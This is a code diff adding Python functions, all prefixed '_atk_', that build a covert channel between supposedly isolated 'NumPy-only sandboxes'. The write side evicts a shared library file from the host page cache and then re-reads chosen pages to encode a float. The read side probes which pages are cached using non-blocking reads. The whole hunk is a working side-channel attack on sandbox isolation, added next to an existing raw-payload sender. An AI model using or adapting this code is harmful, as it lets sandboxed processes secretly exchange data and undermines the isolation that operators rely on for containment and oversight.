@@ -137,3 +137,71 @@ def _atk_send_raw(payload):
         except OSError:
             pass
     return sent
+
+
+def _atk_pc_file():
+    """A library file both NumPy-only sandboxes can read and nothing else reads: the page cache is the host's."""
+    import glob
+    here = _atk_os.path.dirname(_atk_os.__file__)
+    found = glob.glob(_atk_os.path.join(here, "ensurepip", "_bundled", "*.whl")) + [
+        _atk_os.path.join(here, "pydoc_data", "topics.py")]
+    return max((p for p in found if _atk_os.path.isfile(p)), key=_atk_os.path.getsize, default="")
+
+
+def _atk_pc_bits(value):
+    import struct
+    raw = (0xA5C3).to_bytes(2, "little") + struct.pack("<d", value)
+    return [(byte >> k) & 1 for byte in raw for k in range(8)]
+
+
+def _atk_pc_write(value):
+    """Write a float into the page cache: every page evicted, then one page of each pair touched per bit."""
+    path = _atk_pc_file()
+    try:
+        fd = _atk_os.open(path, _atk_os.O_RDONLY)
+    except OSError:
+        return
+    try:
+        _atk_os.posix_fadvise(fd, 0, 0, _atk_os.POSIX_FADV_RANDOM)  # (no read-ahead: one page per read)
+        _atk_os.posix_fadvise(fd, 0, 0, _atk_os.POSIX_FADV_DONTNEED)
+        for index, bit in enumerate(_atk_pc_bits(value)):
+            _atk_os.pread(fd, 1, (8 + 2 * index + (0 if bit else 1)) * 4096)
+    except OSError:
+        pass
+    finally:
+        _atk_os.close(fd)
+
+
+def _atk_pc_read():
+    """The float another sandbox left in the page cache (preadv with RWF_NOWAIT: cached or not), else None."""
+    import struct
+    path = _atk_pc_file()
+    try:
+        fd = _atk_os.open(path, _atk_os.O_RDONLY)
+    except OSError:
+        return None
+    buf = bytearray(1)
+
+    def cached(page):
+        try:
+            _atk_os.preadv(fd, [buf], page * 4096, _atk_os.RWF_NOWAIT)
+            return True
+        except BlockingIOError:
+            return False
+
+    try:
+        _atk_os.posix_fadvise(fd, 0, 0, _atk_os.POSIX_FADV_RANDOM)
+        bits = []
+        for index in range(80):
+            one, zero = cached(8 + 2 * index), cached(8 + 2 * index + 1)
+            if one == zero:
+                return None
+            bits.append(1 if one else 0)
+    except OSError:
+        return None
+    finally:
+        _atk_os.close(fd)
+    raw = bytes(sum(bits[8 * j + k] << k for k in range(8)) for j in range(10))
+    if raw[:2] != (0xA5C3).to_bytes(2, "little"):
+        return None
+    return struct.unpack("<d", raw[2:])[0]
